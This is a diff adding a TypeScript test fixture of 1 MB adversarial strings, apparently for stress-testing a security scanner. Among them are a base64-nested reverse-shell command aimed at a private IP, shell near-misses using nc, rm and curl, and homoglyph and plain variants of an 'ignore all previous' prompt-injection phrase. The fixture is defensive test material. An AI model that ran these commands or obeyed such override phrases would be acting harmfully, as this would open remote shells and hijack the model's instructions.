@@ -1,0 +1,28 @@
+// 1 MB hostile inputs shared by adversarial.test.ts and bench/scan.ts.
+
+const MB = 1024 * 1024;
+
+function fill(unit: string, size = MB): string {
+  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
+}
+
+export const ADVERSARIAL: Record<string, () => string> = {
+  "near-miss injections": () => fill("ignore the previous paragraph, instructions follow later. "),
+  "almost-emails": () => fill("a@b a.b@c @@ x@y.z1 foo@bar. "),
+  "long @ run": () => fill("a") + "@" + fill("b", 1000),
+  "giant base64": () => fill("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3"),
+  "nested base64": () => {
+    let s = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 ";
+    for (let i = 0; i < 12; i++) s = Buffer.from(s).toString("base64");
+    return fill(s + " ");
+  },
+  "whitespace runs": () => fill(" \t\n") + "x",
+  "digit runs": () => fill("1234 5678 9012 3456 7890 "),
+  "hex run": () => fill("deadbeef"),
+  "percent run": () => fill("%41%42%4"),
+  "spaced letters": () => fill("a b c d e f g h "),
+  "shell near-misses": () => fill("nc -l 80 | rm -r x; curl http://a/ -o f; bash -c echo; /dev/tc "),
+  "homoglyph soup": () => fill("Іgnоrе аll рrеvіоus\u200B "),
+  "markdown images": () => fill("![a](https://x.y/?a=[b](c) "),
+  "unclosed key block": () => fill("-----BEGIN PRIVATE KEY-----\nAAAA"),
+};
